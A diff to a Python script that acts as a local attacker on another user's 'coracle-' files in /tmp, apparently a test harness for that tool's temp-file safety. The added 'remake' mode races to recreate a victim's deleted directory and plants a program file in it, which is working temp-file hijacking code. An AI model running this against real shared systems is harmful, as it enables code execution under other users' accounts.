@@ -5,6 +5,7 @@
 #   program  makes the file first, open to all, keeps it open, and writes to it when it belongs to the victim
 #   agents   the same with a file that srun broadcasts
 #   enter    renames, exchanges or opens what is there already
+#   remake   makes the directory again as soon as the victim has removed it
 #
 # Ends when its standard input does, or after three minutes.
 import ctypes, os, re, select, sys, threading, time
@@ -94,6 +95,25 @@ def enter(path):
             pass
 
 
+def remake(path):
+    while not over():
+        try:
+            os.mkdir(path)
+            break
+        except FileExistsError:
+            time.sleep(0.0005)
+        except OSError:  # the disk is full
+            pass
+    for name in ["coracle", "coracle.part"]:
+        while not over():
+            try:
+                write_program(path + "/" + name)
+                break
+            except OSError:
+                time.sleep(0.0005)
+    tell("remade", path)
+
+
 def is_anothers(path):
     try:
         return os.lstat(path).st_uid != os.getuid()
@@ -134,6 +154,12 @@ while not over() and not select.select([sys.stdin], [], [], 0.001)[0]:
                 threading.Thread(target=attempt, args=(path,), daemon=True).start()
     for name in os.listdir("/tmp"):
         path = "/tmp/" + name
-        if name.startswith("coracle-") and "enter" in modes and is_anothers(path):
+        if not name.startswith("coracle-") or not is_anothers(path):
+            continue
+        if "enter" in modes:
             enter(path)
+        if "remake" in modes and path not in seen:
+            seen.add(path)
+            tell("found", path)
+            threading.Thread(target=remake, args=(path,), daemon=True).start()
 print("end", tried, flush=True)
